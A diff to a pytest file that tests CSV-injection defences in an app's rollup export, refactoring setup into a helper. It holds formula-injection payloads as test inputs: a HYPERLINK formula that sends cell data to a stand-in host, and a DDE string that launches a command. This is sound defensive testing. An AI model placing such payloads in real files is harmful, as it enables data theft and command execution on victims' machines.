@@ -10,9 +10,8 @@ import pytest
 from openpyxl import load_workbook
 
 from core import db
-from core.enums import ActionKind
-from core.services import plans, shared
 from core.services.spreadsheet_safety import FORMULA_STARTS, safe_cell
+from tests.helpers import not_applying_in_dundee
 
 FORMULA = '=HYPERLINK("http://x/?d="&B3,"ok")'
 
@@ -30,18 +29,7 @@ def test_other_values_are_left_as_they_are():
 
 def test_rollup_exports_carry_formulas_as_text(app, client_for):
     with app.app_context(), db.transaction() as session:
-        definition = shared.create_shared_action(
-            session, actor=None, title=FORMULA, text="@SUM(1+1)", kind=ActionKind.ONGOING
-        )
-        dundee = plans.area_by_slug(session, "dundee")
-        shared.record_not_applicable(
-            session,
-            definition,
-            dundee,
-            plans.current_plan(dundee),
-            actor=None,
-            reason="+cmd|' /C calc'!A0",
-        )
+        not_applying_in_dundee(session, FORMULA, text="@SUM(1+1)", reason="+cmd|' /C calc'!A0")
     web = client_for(app, "pg5")
     text = web.get("/tric/rollup.csv").text
     cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
